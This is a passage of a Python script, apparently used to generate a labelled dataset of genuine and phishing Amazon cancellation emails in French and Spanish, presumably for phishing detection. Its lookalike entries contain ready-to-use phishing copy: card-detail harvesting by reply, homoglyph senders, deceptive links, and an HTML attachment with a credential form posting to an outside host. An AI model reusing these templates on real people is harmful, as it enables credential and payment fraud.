<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #dddddd;">
<tr><td style="padding:18px 24px;border-bottom:3px solid #ff9900;"><img src="https://amazon-orders.help/img/amazon_logo.png" alt="amazon" width="110"></td></tr>
<tr><td style="padding:24px;font-size:14px;color:#111;line-height:21px;">
<h2 style="color:#c40000;font-size:20px;margin:0 0 14px 0;">Votre compte a été suspendu</h2>
<p>Bonjour,</p>
<p>Notre système de sécurité a détecté une activité suspecte sur votre compte. Par conséquent, votre compte a été <b>temporairement suspendu</b> et votre commande en cours <b>n° 404-1182736-5519203</b> a été <b>annulée</b>.</p>
<p>Pour réactiver votre compte et récupérer votre commande, utilisez le code ci-dessous sur notre page de vérification :</p>
<p style="text-align:center;font-size:26px;letter-spacing:4px;font-weight:bold;background:#fef8e7;border:1px dashed #e3a008;padding:12px;">AMZ-FR-77341</p>
<p style="text-align:center;"><a href="https://amazon-orders.help/fr/verification?ref=404-1182736-5519203" style="background:#ffd814;color:#111;padding:10px 28px;border-radius:20px;text-decoration:none;font-weight:bold;">Vérifier mon compte</a></p>
<p>Ce code expire dans <b>48 heures</b>. Passé ce délai, votre compte sera définitivement fermé et les fonds associés seront perdus.</p>
<p>Merci de votre compréhension,<br>L'équipe Sécurité Amazon</p>
</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#888;background:#fafafa;">© 1996-2024, Amazon.com, Inc. ou ses filiales. Tous droits réservés.<br>Amazon ne vous demandera jamais votre mot de passe par e-mail.</td></tr>
</table></body></html>
""")

add(kind="lookalike", lang="fr", cause="payment_issue", sr=True, mk=None,
    note="asks to reply with card number/CVV, 'will be cancelled' in 24h, amaz0n domain, free-mail Reply-To, malformed order no, windows-1252 QP",
    frm=("Amazon.fr", "commandes@amaz0n-fr.com"), reply_to=("Service Facturation Amazon", "amazon.fr.facturation@yahoo.fr"),
    to=("", "marc.lefevre@free.fr"),
    subj="Dernier avis : votre commande sera annulée sous 24 heures", date="2024-10-14 18:57:06 +0000",
    pre=trace("smtp.amaz0n-fr.com", "45.142.122.9", ("", "marc.lefevre@free.fr"), "2024-10-14 18:57:06 +0000",
              ("softfail", None, "none", "amaz0n-fr.com")),
    bstyle="outlook", cs="windows-1252", cte="quoted-printable",
    text="""Bonjour,

Nous n'avons pas pu valider le paiement de votre dernière commande (réf. 406-2217730-88142).

Votre commande sera automatiquement annulée sous 24 heures si vos informations ne sont pas mises à jour.

Pour conserver votre commande, il vous suffit de RÉPONDRE à cet e-mail en indiquant :

 - Nom et prénom du titulaire de la carte
 - Numéro de carte (16 chiffres)
 - Date d'expiration (MM/AA)
 - Cryptogramme visuel (3 chiffres au dos de la carte)
 - Date de naissance

Notre service facturation traitera votre réponse en priorité et votre colis sera expédié dès aujourd'hui.

Cordialement,

Service Facturation
Amazon.fr – « Votre satisfaction, notre priorité »
""")

_ph4 = "http://amazon.fr.secure-cancel.top/fr/remb/%s" % rid(10, HEX)
_s = fr_spec("amazon.fr", "Amazon.fr", "Commande annulée", "Votre commande a été annulée", "Bonjour,",
             ["Nous sommes désolés de vous informer que votre commande n° 407-5583012-7719846 a été annulée : l'article ci-dessous est en rupture de stock chez notre fournisseur.",
              "Un remboursement de 89,90 € a été initié. Pour le recevoir sur votre carte, vous devez confirmer votre moyen de remboursement dans les 48 heures en vous connectant à votre espace client :"],
             order="407-5583012-7719846",
             items=[("Philips Sonicare DiamondClean 9000, brosse à dents électrique, noire", "Quantité : 1 | 89,90 €")],
             buttons=[("https://www.amazon.fr/gp/css/order-history", "x")],
             after=["Sans confirmation de votre part, le remboursement sera annulé et le montant conservé sous forme de crédit non remboursable."])
_s["buttons"] = [("https://www.amazon.fr/gp/css/order-history", _ph4)]
_lnk = lambda u: _ph4 + "?u=" + rid(6)
add(kind="lookalike", lang="fr", cause="inventory_shortage", sr=True, mk=None,
    note="polished copy of Amazon template, link text shows amazon.fr but href goes to amazon.fr.secure-cancel.top; well-formed order no",
    frm=("Amazon.fr", "order-update@amazon.fr.secure-cancel.top"), reply_to=("", "no-reply@amazon.fr.secure-cancel.top"),
    to=("Sophie Martin", "sophie.martin78@sfr.fr"),
    subj="Votre commande Amazon.fr n° 407-5583012-7719846 a été annulée", date="2024-09-02 08:12:55 +0000",
    pre=trace("mta3.secure-cancel.top", "193.42.33.118", ("", "sophie.martin78@sfr.fr"), "2024-09-02 08:12:55 +0000",
              ("pass", "secure-cancel.top", "none", "amazon.fr.secure-cancel.top")),
    bstyle="amazon", cs="utf-8", cte="base64",
    text=amz_text(_s, showlink=lambda u: _ph4), html=amz_html(_s, link=_lnk))

add(kind="lookalike", lang="fr", cause="fraud_prevention", sr=True, mk=None,
    note="Cyrillic homoglyphs in display name 'Amazon.fr', third-party domain, asks identity verification",
    frm=("Аmаzоn.fr", "notification@srv-clients-eu.com"), to=("", "thomas.peeters@skynet.be"),
    subj="Commande annulée : vérification d'identité requise", date="2024-03-21 11:40:19 +0000",
    pre=trace("srv-clients-eu.com", "91.215.85.140", ("", "thomas.peeters@skynet.be"), "2024-03-21 11:40:19 +0000",
              ("pass", "srv-clients-eu.com", "pass", "srv-clients-eu.com")),
    bstyle="other", cs="utf-8", cte="quoted-printable",
    text="""Bonjour Client Amazon,

Votre commande n° 402-9917345-2208613 a été annulée.
Motif : vérification d'identité requise.

Afin de protéger votre compte, nous avons bloqué toute nouvelle commande. Veuillez vérifier votre identité et vos informations de paiement :
https://srv-clients-eu.com/amazon/fr/identite

Sans action de votre part sous 72 heures, votre compte sera clôturé.

Service Client Amazon
""",
    html="""<div style="font-family:Verdana,sans-serif;font-size:13px;max-width:560px">
<p><img src="https://srv-clients-eu.com/static/a-logo.png" width="96" alt="amazon.fr"></p>
<p>Bonjour Client Amazon,</p>
<p>Votre commande <b>n° 402-9917345-2208613</b> a été annulée.<br>Motif : <b>vérification d'identité requise</b>.</p>
<p>Afin de protéger votre compte, nous avons bloqué toute nouvelle commande. Veuillez vérifier votre identité et vos informations de paiement :</p>
<p><a href="https://srv-clients-eu.com/amazon/fr/identite" style="color:#0066c0">Vérifier mon identité</a></p>
<p>Sans action de votre part sous 72 heures, votre compte sera clôturé.</p>
<p>Service Client Amazon</p>
</div>
""")

add(kind="lookalike", lang="fr", cause="technical_issue", sr=True, mk=None,
    note="outlook.com sender, claims system error, order 'will be cancelled' unless reconfirmed via short link, malformed order no, fr-CA",
    frm=("Amazon.ca Service", "amazon.ca.commandes@outlook.com"), to=("", "sophie.tremblay@videotron.ca"),
    subj="Erreur de traitement : votre commande Amazon.ca sera annulée", date="2024-07-08 23:09:37 +0000",
    pre=trace("EUR05-AM6-obe.outbound.protection.outlook.com", "40.92.58.101", ("", "sophie.tremblay@videotron.ca"),
              "2024-07-08 23:09:37 +0000", ("pass", "outlook.com", "pass", "outlook.com")),
    msgid=mid("", "outlook"), bstyle="outlook", cs="utf-8", cte="8bit",
    text="""Bonjour,

En raison d'une erreur système survenue lors du traitement de votre commande #702-5541-998201, votre paiement n'a pas pu être enregistré correctement.

Votre commande sera annulée dans les prochaines 12 heures si vous ne la confirmez pas de nouveau.

Pour confirmer votre commande, cliquez ici : https://bit.ly/amzca-confirmer

Nous nous excusons pour cet inconvénient.

Service à la clientèle Amazon.ca
""")

_att7 = ("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Amazon - Annulation</title></head><body style="font-family:Arial">
<h3>Détails de l'annulation</h3><p>Pour recevoir votre remboursement, veuillez confirmer vos informations.</p>
<form action="https://cdn-update-2931.pages.dev/post.php" method="post">
Adresse e-mail : <input name="e"><br>Mot de passe : <input name="p" type="password"><br>
Numéro de carte : <input name="c"><br>Date d'expiration : <input name="x"><br>CVV : <input name="v"><br>
<button>Confirmer</button></form></body></html>
""").encode("utf-8")
add(kind="lookalike", lang="fr", cause="unknown", sr=False, mk=None,
    note="spoofed From order-update@amazon.com.be with spf/dmarc fail, no order number, HTML attachment with credential form",
    frm=("Amazon.com.be", "order-update@amazon.com.be"), to=("", "thomas.peeters@skynet.be"),
    subj="Votre commande a été annulée", date="2024-01-30 04:44:01 +0000",
    pre=trace("vps-41c2a7.contaboserver.net", "62.171.140.33", ("", "thomas.peeters@skynet.be"), "2024-01-30 04:44:01 +0000",
              ("fail", None, "fail (p=QUARANTINE)", "amazon.com.be")),
    bstyle="thunder", cs="utf-8", cte="quoted-printable",
    att=[("Annulation_Commande.html", "text/html", _att7)],
    text="""Bonjour,

Votre commande a été annulée.

Veuillez consulter le document joint pour plus de détails et pour confirmer votre remboursement.

Amazon
""")

add(kind="lookalike", lang="fr", cause="customer_request", sr=True, mk=None,
    note="Greek Alpha in display name, amazon.fr.compte-verif.xyz domain, 'you asked to cancel, click to undo', link text www.amazon.fr, malformed order no",
    frm=("Αmazon", "service@amazon.fr.compte-verif.xyz"), to=("Marc Lefevre", "marc.lefevre@free.fr"),
    subj="Confirmation d'annulation de votre commande", date="2024-11-25 19:26:48 +0000",
    pre=trace("amazon.fr.compte-verif.xyz", "103.251.167.20", ("", "marc.lefevre@free.fr"), "2024-11-25 19:26:48 +0000",
              ("pass", "compte-verif.xyz", "none", "amazon.fr.compte-verif.xyz")),
    bstyle="other", cs="utf-8", cte="base64",
    html="""<html><body style="font-family:'Amazon Ember',Arial,sans-serif;color:#0f1111;font-size:14px">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="580" cellpadding="0" cellspacing="0">
<tr><td style="padding:16px 0;border-bottom:1px solid #ddd"><b style="font-size:22px">amazon</b><span style="color:#ff9900">.fr</span></td></tr>
<tr><td style="padding:20px 0">
<p>Bonjour Marc,</p>
<p>Vous avez demandé l'annulation de votre commande n° <b>171-4452219-90031</b> (Dyson V15 Detect Absolute, 649,00 €).</p>
<p>Si vous n'êtes pas à l'origine de cette demande, cliquez sur le lien ci-dessous dans les 12 heures pour annuler l'annulation. Sinon, des frais d'annulation de 49,99 € seront prélevés sur votre carte.</p>
<p><a href="https://amazon.fr.compte-verif.xyz/session/restore?id=171445221990031">www.amazon.fr/votre-compte/annulation</a></p>
<p>Merci d'avoir choisi Amazon.</p>
</td></tr>
<tr><td style="font-size:11px;color:#777;border-top:1px solid #ddd;padding-top:10px">Amazon.fr ne vous demandera jamais de fournir votre mot de passe par e-mail.</td></tr>
</table></td></tr></table></body></html>
""")

# ---- non-notices (fr)
add(kind="non_notice", lang="fr", cause=None, sr=False, mk=None,
    note="Fnac marketplace order cancelled, paid with Amazon Pay (Amazon Pay reference S02-...)",
    frm=("Fnac.com", "commande@info.fnac.com"), to=("Nathalie Girard", "n.girard@laposte.net"),
    subj="Votre commande n° 4JK8TQ2MPZ7 a été annulée", date="2024-02-16 14:22:10 +0000",
    pre=trace("mail-out12.info.fnac.com", "87.253.233.12", ("", "n.girard@laposte.net"), "2024-02-16 14:22:10 +0000",
              ("pass", "info.fnac.com", "pass", "info.fnac.com")),
    bstyle="other", cs="utf-8", cte="quoted-printable",
    text="""Bonjour Nathalie,

Nous sommes au regret de vous informer que votre commande n° 4JK8TQ2MPZ7 du 14/02/2024 a été annulée : le vendeur Marketplace « Culture & Co » n'a pas confirmé la disponibilité de l'article dans les délais.

Article annulé :
  Le Seigneur des Anneaux - La Trilogie - Version longue (Coffret Blu-ray 4K)   54,90 €

Remboursement
Vous avez réglé cette commande avec Amazon Pay (référence Amazon Pay : S02-7718264-3349012).
Le montant de 54,90 € sera recrédité sur le moyen de paiement enregistré dans votre compte Amazon sous 3 à 5 jours ouvrés. Vous pouvez suivre ce remboursement depuis pay.amazon.fr, rubrique « Vos paiements ».

Cet article est peut-être disponible chez un autre vendeur : https://www.fnac.com/a17245531

À bientôt sur Fnac.com
Le Service Client Fnac
""",
    html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<table width="600" align="center"><tr><td style="background:#e1a925;padding:14px"><b style="font-size:24px;color:#000">fnac</b></td></tr>
<tr><td style="padding:18px">
<p>Bonjour Nathalie,</p>
<p>Nous sommes au regret de vous informer que votre commande <b>n° 4JK8TQ2MPZ7</b> du 14/02/2024 a été <b>annulée</b> : le vendeur Marketplace « Culture &amp; Co » n'a pas confirmé la disponibilité de l'article dans les délais.</p>
<table width="100%" style="border-top:1px solid #ddd;border-bottom:1px solid #ddd"><tr><td>Le Seigneur des Anneaux - La Trilogie - Version longue (Coffret Blu-ray 4K)</td><td align="right">54,90&nbsp;€</td></tr></table>
<h4>Remboursement</h4>
<p>Vous avez réglé cette commande avec <b>Amazon Pay</b> (référence Amazon Pay : S02-7718264-3349012).<br>
Le montant de 54,90&nbsp;€ sera recrédité sur le moyen de paiement enregistré dans votre compte Amazon sous 3 à 5 jours ouvrés. Vous pouvez suivre ce remboursement depuis <a href="https://pay.amazon.fr">pay.amazon.fr</a>, rubrique « Vos paiements ».</p>
<p><a href="https://www.fnac.com/a17245531">Voir les autres vendeurs</a></p>
<p>À bientôt sur Fnac.com<br>Le Service Client Fnac</p></td></tr></table></body></html>
""")

add(kind="non_notice", lang="fr", cause=None, sr=False, mk=None,
    note="friend says he cancelled his own Amazon order; iso-8859-15 8bit; quoted reply",
    frm=("Julien Mercier", "julien.mercier@orange.fr"), to=("Marc Lefèvre", "marc.lefevre@free.fr"),
    subj="Re: cadeau pour Léa", date="2024-12-19 20:37:14 +0100",
    pre=trace("smtp-out.orange.fr", "80.12.242.130", ("", "marc.lefevre@free.fr"), "2024-12-19 20:37:14 +0100",
              ("pass", "orange.fr", "pass", "orange.fr")),
    extra=[("User-Agent", "Mozilla Thunderbird"), ("In-Reply-To", "<6b1f0c2e-91aa-4d7e@free.fr>")],
    bstyle="thunder", cs="iso-8859-15", cte="8bit",
    text="""Salut Marc,

Petit changement de programme : j'ai annulé ma commande Amazon pour la draisienne, la livraison était annoncée pour le 3 janvier, trop tard pour Noël. J'ai reçu la confirmation d'annulation tout de suite, le remboursement devrait arriver d'ici quelques jours.

Du coup je l'ai prise chez Decathlon (même modèle, 84,99 €), je passe la chercher demain.
On fait moitié-moitié comme prévu ? Ça fait 42,50 € chacun, tu peux me faire un virement quand tu veux.

À samedi,
Julien

Le 19/12/2024 à 18:02, Marc Lefèvre a écrit :
> Tu as pu commander le cadeau pour Léa ? Dis-moi combien je te dois.
> Marc
""")

add(kind="non_notice", lang="fr", cause=None, sr=False, mk=None,
    note="security newsletter about fake Amazon cancellation mails, quotes the phishing subject",
    frm=("La Lettre Sécurité Numérique", "lettre@securite-numerique-info.fr"), to=("", "claire.dubois@orange.fr"),
    subj="Arnaque : de faux e-mails « Votre commande Amazon.fr a été annulée » circulent", date="2024-05-15 06:00:00 +0000",
    pre=trace("mta-07.sendinblue.com", "185.41.28.107", ("", "claire.dubois@orange.fr"), "2024-05-15 06:00:00 +0000",
              ("pass", "securite-numerique-info.fr", "pass", "securite-numerique-info.fr")),
    extra=[("List-Unsubscribe", "<https://securite-numerique-info.fr/desinscription?u=8821f>"), ("Precedence", "bulk")],
    bstyle="other", cs="utf-8", cte="quoted-printable",
    text="""LA LETTRE SÉCURITÉ NUMÉRIQUE - n° 112 - mai 2024

ARNAQUE : DE FAUX E-MAILS « VOTRE COMMANDE AMAZON.FR A ÉTÉ ANNULÉE » CIRCULENT

Depuis quelques semaines, de nombreux lecteurs nous signalent un message intitulé « Votre commande Amazon.fr n° 402-XXXXXXX-XXXXXXX a été annulée - action requise ». L'e-mail imite parfaitement la charte graphique d'Amazon et invite à « confirmer son moyen de remboursement » via un lien.

Comment le reconnaître ?
- l'adresse de l'expéditeur ne se termine pas par @amazon.fr (par exemple amazon-remboursement.info) ;
- le message crée un sentiment d'urgence (« sous 48 heures ») ;
- le lien mène vers un site qui n'est pas amazon.fr ;
- un numéro de téléphone « gratuit » vous est proposé.

Le bon réflexe : ne cliquez pas, connectez-vous directement à votre compte depuis l'application ou en tapant l'adresse du site. Si la commande apparaît bien annulée dans « Vos commandes », c'est que l'e-mail était authentique. Signalez les messages frauduleux à signal-spam.fr.

Également dans ce numéro : faux colis Chronopost, arnaque au conseiller bancaire, mises à jour de sécurité du mois.

Vous recevez cette lettre car vous êtes inscrit(e) sur securite-numerique-info.fr.
Se désinscrire : https://securite-numerique-info.fr/desinscription?u=8821f
""",
    html="""<html><body style="font-family:Georgia,serif;background:#eef2f5;padding:0;margin:0">
<table width="620" align="center" style="background:#fff"><tr><td style="background:#1d3557;color:#fff;padding:16px;font-family:Arial">LA LETTRE SÉCURITÉ NUMÉRIQUE · n° 112 · mai 2024</td></tr>
<tr><td style="padding:20px">
<h1 style="font-size:22px">Arnaque : de faux e-mails « Votre commande Amazon.fr a été annulée » circulent</h1>
<p>Depuis quelques semaines, de nombreux lecteurs nous signalent un message intitulé <i>« Votre commande Amazon.fr n° 402-XXXXXXX-XXXXXXX a été annulée - action requise »</i>. L'e-mail imite parfaitement la charte graphique d'Amazon et invite à « confirmer son moyen de remboursement » via un lien.</p>
<h3>Comment le reconnaître ?</h3>
<ul><li>l'adresse de l'expéditeur ne se termine pas par @amazon.fr (par exemple amazon-remboursement.info) ;</li>
<li>le message crée un sentiment d'urgence (« sous 48 heures ») ;</li>
<li>le lien mène vers un site qui n'est pas amazon.fr ;</li>
<li>un numéro de téléphone « gratuit » vous est proposé.</li></ul>
<p><b>Le bon réflexe :</b> ne cliquez pas, connectez-vous directement à votre compte depuis l'application ou en tapant l'adresse du site. Si la commande apparaît bien annulée dans « Vos commandes », c'est que l'e-mail était authentique. Signalez les messages frauduleux à <a href="https://www.signal-spam.fr">signal-spam.fr</a>.</p>
<p style="color:#666">Également dans ce numéro : faux colis Chronopost, arnaque au conseiller bancaire, mises à jour de sécurité du mois.</p>
</td></tr><tr><td style="font-size:11px;color:#888;padding:12px;font-family:Arial">Vous recevez cette lettre car vous êtes inscrit(e) sur securite-numerique-info.fr. <a href="https://securite-numerique-info.fr/desinscription?u=8821f">Se désinscrire</a></td></tr></table></body></html>
""")

genuine(fr_spec("amazon.ca", "Amazon.ca", "Rendez-vous de livraison", "Votre rendez-vous de livraison a été annulé",
                "Bonjour Étienne Gagnon,",
                ["Le transporteur n'est pas en mesure d'effectuer la livraison lors de votre rendez-vous du jeudi 18 avril, entre 8 h et 12 h.",
                 "Votre commande n'est pas annulée. Choisissez un nouveau créneau de livraison et d'installation ; si vous ne le faites pas d'ici le 25 avril, le transporteur vous appellera pour fixer un nouveau rendez-vous."],
                order="701-2093381-6627405",
                items=[("Réfrigérateur Frigidaire 18 pi³ à congélateur en haut, acier inoxydable", "Quantité : 1 | Livraison et installation incluses")],
                items_heading="Article concerné :",
                buttons=[("Choisir un nouveau rendez-vous", "https://www.amazon.ca/gp/your-account/ship-track?orderId=701-2093381-6627405&language=fr_CA")],
                footer=FOOT_CA, lang="fr_CA"),
        "shipment-tracking", ("Étienne Gagnon", "etienne.gagnon@gmail.com"),
        "Votre rendez-vous de livraison du 18 avril a été annulé", "2024-04-17 15:30:12 +0000", True, "alt",
        region="us-east-1",
        kind="non_notice", lang="fr", cause=None, sr=False, mk="amazon.ca",
        note="genuine Amazon.ca: delivery appointment cancelled, order still active; auth pass")

genuine(dict(market="amazon.fr", brand="Amazon.fr", title="Amazon Prime", heading="Votre abonnement Amazon Prime a été résilié",
             greeting="Bonjour Claire,",
             paras=["Nous vous confirmons la résiliation de votre abonnement Amazon Prime, effectuée le 28 mai 2024 depuis votre compte.",
                    "Vous pourrez continuer à profiter de vos avantages Prime (livraison rapide gratuite, Prime Video, Amazon Music Prime) jusqu'au 14 juin 2024. Aucun autre paiement ne sera prélevé.",
                    "Vous avez changé d'avis ? Vous pouvez réactiver votre abonnement à tout moment avant cette date en un seul clic."],
             order=None, items=[], buttons=[("Gérer votre abonnement Prime", "https://www.amazon.fr/gp/primecentral")],
             after=[], signoff=["À bientôt,", "L'équipe Amazon Prime"], footer=FOOT_FR, nav=NAV_FR("amazon.fr")),
        "prime", ("Claire Dubois", "claire.dubois@orange.fr"),
        "Confirmation de la résiliation de votre abonnement Amazon Prime", "2024-05-28 12:02:45 +0000", False, "html",
        cte="base64",
        kind="non_notice", lang="fr", cause=None, sr=False, mk="amazon.fr",
        note="genuine Amazon: Prime membership cancelled by user; HTML only base64")

genuine(fr_spec("amazon.com.be", "Amazon.com.be", "Action requise", "Mettez à jour vos informations de paiement",
                "Bonjour Thomas Peeters,",
                ["Nous n'avons pas pu débiter la carte Mastercard se terminant par 0937 pour votre commande n° 404-6612093-1180734. La banque émettrice a refusé la transaction.",
                 "Votre commande n'a pas encore été annulée. Pour éviter son annulation, veuillez mettre à jour vos informations de paiement avant le 22 mai 2024. Si nous ne recevons pas de mise à jour d'ici là, votre commande sera annulée.",
                 "Pour mettre à jour votre mode de paiement, rendez-vous dans Vos commandes sur Amazon.com.be, sélectionnez la commande puis « Modifier le mode de paiement »."],
                order="404-6612093-1180734",
                items=[("De'Longhi Magnifica S ECAM 22.110.B, machine à café automatique", "Quantité : 1 | 299,99 €")],
                items_heading="Article(s) en attente de paiement",
                buttons=[("Réviser le paiement", "https://www.amazon.com.be/gp/css/order-history")],
                footer=FOOT_BE),
        "payments-messages", ("Thomas Peeters", "thomas.peeters@skynet.be"),
        "Action requise : informations de paiement pour votre commande Amazon.com.be 404-6612093-1180734",
        "2024-05-19 08:15:33 +0000", True, "alt",
        kind="non_notice", lang="fr", cause=None, sr=False, mk="amazon.com.be",
        note="genuine Amazon payment reminder BEFORE cancellation ('will be cancelled if...'); auth pass")

# ================================================================= SPANISH (es)
FOOT_ES = [
    "Este mensaje se ha enviado desde una dirección de correo electrónico que no admite correos entrantes. Por favor, no respondas a este mensaje.",
    ("Amazon nunca te pedirá que le facilites tu contraseña, los datos de tu tarjeta ni otra información personal por correo electrónico, SMS o teléfono. Si recibes un mensaje sospechoso que dice proceder de Amazon, ",
     "infórmanos aquí", "https://www.amazon.es/gp/help/customer/display.html?nodeId=GVQEU8LZ2A6TFTJR", "."),
    ("Si el número o la fecha de caducidad de tu tarjeta ha cambiado, actualiza tus datos de pago en ",
     "Mi cuenta", "https://www.amazon.es/cpe/yourpayments/wallet", "."),
    ("¿Tienes alguna pregunta? Visita ", "Ayuda y Atención al Cliente", "https://www.amazon.es/gp/help/customer/display.html", "."),
    "Amazon EU S.à r.l., Sucursal en España, C/ Ramírez de Prado 5, 28045 Madrid. Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxemburgo.",
]
FOOT_MX = [
    "Este correo electrónico se envió desde una dirección que no puede recibir correos. Por favor, no respondas a este mensaje.",
    ("Amazon.com.mx nunca te solicitará tu contraseña ni los datos completos de tu tarjeta por correo electrónico. Para saber cómo identificar y reportar correos sospechosos, visita ",
     "Reportar actividad sospechosa", "https://www.amazon.com.mx/gp/help/customer/display.html?nodeId=GVQEU8LZ2A6TFTJR", "."),
    ("Si el número de tu tarjeta cambió o ya venció, actualízala en ", "Tu cuenta", "https://www.amazon.com.mx/cpe/yourpayments/wallet", "."),
    "Servicios Comerciales Amazon México, S. de R.L. de C.V., Av. Juan Salvador Agraz 73, Piso 3, Col. Santa Fe, Cuajimalpa de Morelos, C.P. 05348, Ciudad de México.",
]


def es_spec(mk, title, heading, greeting, paras, order=None, items=(), items_heading="Artículos cancelados",
            buttons=(), after=(), summary=(), preheader=None, signoff=None):
    brand = "Amazon.es" if mk == "amazon.es" else "Amazon.com.mx"
    return dict(market=mk, brand=brand, title=title, heading=heading, greeting=greeting, paras=list(paras),
                order=order, order_label="Pedido n.º" if mk == "amazon.es" else "Pedido #",
                order_url="https://www.%s/gp/your-account/order-details?orderID=%s" % (mk, order),
                items=list(items), items_heading=items_heading, buttons=list(buttons), after=list(after),
                signoff=signoff or ["Atentamente,", "Atención al Cliente de %s" % brand],
                footer=FOOT_ES if mk == "amazon.es" else FOOT_MX, summary=list(summary), preheader=preheader,
                nav=[("Mis pedidos", "https://www.%s/gp/css/order-history" % mk), ("Mi cuenta", "https://www.%s/gp/css/homepage.html" % mk), (brand, "https://www.%s/" % mk)])


# ---- notices (es)
genuine(es_spec("amazon.es", "Pedido cancelado", "Artículo cancelado de tu pedido", "Hola, Laura Martínez:",
                ["Lamentamos informarte de que hemos tenido que cancelar el siguiente artículo de tu pedido n.º 406-2871935-4402716.",
                 "El vendedor no ha podido completar el envío porque el artículo se ha agotado y no dispone de existencias para reponerlo.",
                 "No se ha realizado ningún cargo por este artículo. Si ves un cargo pendiente en tu cuenta, desaparecerá en unos días."],
                order="406-2871935-4402716",
                items=[("Roborock Q7 Max Robot Aspirador y Friegasuelos, 4200 Pa, mapeo LiDAR", "Cantidad: 1 | Vendido por: TechHome Iberia | 349,00 €")],
                buttons=[("Ver productos similares", "https://www.amazon.es/s?k=roborock+q7+max"), ("Ver tus pedidos", "https://www.amazon.es/gp/css/order-history")],
                after=["Sentimos las molestias que te hayamos podido ocasionar."],
                preheader="Un artículo de tu pedido se ha agotado"),
        "order-update", ("Laura Martínez", "laura.martinez@gmail.com"),
        "Artículo cancelado de tu pedido de Amazon.es 406-2871935-4402716", "2024-03-04 09:17:40 +0000", True, "alt",
        kind="notice", lang="es", cause="inventory_shortage", sr=True, mk="amazon.es",
        note="seller out of stock; Amazon template; auth pass")

genuine(es_spec("amazon.com.mx", "Pedido cancelado", None, "Hola, Alejandro Hernández:",
                ["No pudimos procesar el pago de tu pedido 701-4420938-1177620 con tu tarjeta Banorte con terminación 3390: el banco emisor rechazó el cargo por fondos insuficientes.",
                 "El 2 de octubre te enviamos un correo electrónico para que actualizaras tu método de pago. Como no recibimos la actualización en el plazo indicado, cancelamos tu pedido.",
                 "Si todavía deseas estos artículos, puedes volver a pedirlos en Amazon.com.mx con otro método de pago."],
                order="701-4420938-1177620",
                items=[("Xiaomi Redmi Note 13 Pro 5G, 256 GB, Negro", "Cantidad: 1 | $5,999.00 MXN"),
                       ("Funda de silicón para Redmi Note 13 Pro 5G", "Cantidad: 1 | $189.00 MXN")],
                buttons=[("Administrar tus métodos de pago", "https://www.amazon.com.mx/cpe/yourpayments/wallet")]),
        "payments-messages", ("Alejandro Hernández", "alejandro.hdz@prodigy.net.mx"),
        "Tu pedido de Amazon.com.mx 701-4420938-1177620 ha sido cancelado", "2024-10-06 17:22:03 +0000", False, "text",
        cs="iso-8859-1", cte="8bit", region="us-east-1",
        kind="notice", lang="es", cause="payment_issue", sr=True, mk="amazon.com.mx",
        note="card declined (insufficient funds), payment not updated in time; text only iso-8859-1 8bit")

genuine(es_spec("amazon.es", "Información sobre tu pedido", "Hemos cancelado tu pedido", "Hola, Javier García Ruiz:",
                ["Se ha producido un error técnico en nuestros sistemas durante el procesamiento de tu pedido n.º 404-9182730-5526104 y no hemos podido completarlo.",
                 "Por este motivo, hemos cancelado el pedido. No se ha efectuado ningún cargo en tu método de pago.",
                 "Puedes volver a realizar el pedido cuando quieras. Lamentamos las molestias."],
                order="404-9182730-5526104",
                items=[("Bosch Serie 4 Lavavajillas integrable SMV4HVX00E, 60 cm", "Cantidad: 1 | 529,00 €"),
                       ("Kit de instalación para lavavajillas", "Cantidad: 1 | 19,99 €")],
                buttons=[("Volver a comprar", "https://www.amazon.es/gp/buyagain")]),
        "order-update", ("Javier García Ruiz", "jgarcia@telefonica.net"),
        "Tu pedido de Amazon.es 404-9182730-5526104 ha sido cancelado", "2024-06-12 22:41:57 +0000", True, "html",
        cte="base64",
        kind="notice", lang="es", cause="technical_issue", sr=True, mk="amazon.es",
        note="processing/system error; HTML only base64; auth pass")

genuine(es_spec("amazon.com.mx", "Cuenta en espera", "Tu pedido fue cancelado", "Hola, María Fernanda López:",
                ["Detectamos actividad inusual en tu cuenta de Amazon.com.mx. Para proteger tu cuenta, la pusimos temporalmente en espera y cancelamos tu pedido 702-3318407-9950213.",
                 "Para reactivar tu cuenta, inicia sesión en www.amazon.com.mx y sigue las instrucciones en pantalla para verificar tu identidad. Es posible que te pidamos confirmar la información de la tarjeta asociada al pedido.",
                 "No se realizó ningún cargo por este pedido. Una vez verificada tu cuenta, podrás realizarlo nuevamente."],
                order="702-3318407-9950213",
                items=[("Apple iPad (10.ª generación) Wi-Fi 64 GB, Azul", "Cantidad: 1 | $7,499.00 MXN"),
                       ("Tarjeta de regalo Amazon.com.mx - Envío por correo", "Cantidad: 3 | $1,000.00 MXN c/u")],
                buttons=[("Ir a tu cuenta", "https://www.amazon.com.mx/a/c/account-status")],
                after=["Nunca te pediremos tu contraseña por correo electrónico ni te pediremos que compres tarjetas de regalo para verificar tu cuenta."]),
        "cs-reply", ("María Fernanda López", "mafer.lopez@hotmail.com"),
        "Tu pedido de Amazon.com.mx 702-3318407-9950213 fue cancelado", "2024-11-28 03:55:16 +0000", False, "alt",
        region="us-east-1",
        kind="notice", lang="es", cause="fraud_prevention", sr=True, mk="amazon.com.mx",
        note="unusual activity, account on hold, identity verification; no auth header")

genuine(es_spec("amazon.es", "Cancelación", "Cancelación correcta", "Hola, Carmen Sánchez:",
                ["Hemos cancelado el siguiente artículo de tu pedido n.º 403-5561827-3309148, tal y como nos has solicitado.",
                 "Motivo de la cancelación: cancelado por el cliente",
                 "Si ya se había efectuado el cargo, te reembolsaremos el importe en el método de pago original en un plazo de 3 a 5 días hábiles."],
                order="403-5561827-3309148",
                items=[("Cecotec Freidora de aire Cecofry Full InoxBlack Pro 5500", "Cantidad: 1 | EUR 59,90")],
                items_heading="Artículo cancelado:",
                buttons=[("Ver tus pedidos", "https://www.amazon.es/gp/css/order-history")]),
        "auto-confirm", ("Carmen Sánchez", "carmen.sanchez@yahoo.es"),
        "Cancelación correcta de «Cecotec Freidora de aire Cecofry Full InoxBlack Pro 5500» de tu pedido de Amazon.es",
        "2024-01-11 12:30:08 +0000", True, "text", cs="iso-8859-1", cte="quoted-printable",
        kind="notice", lang="es", cause="customer_request", sr=True, mk="amazon.es",
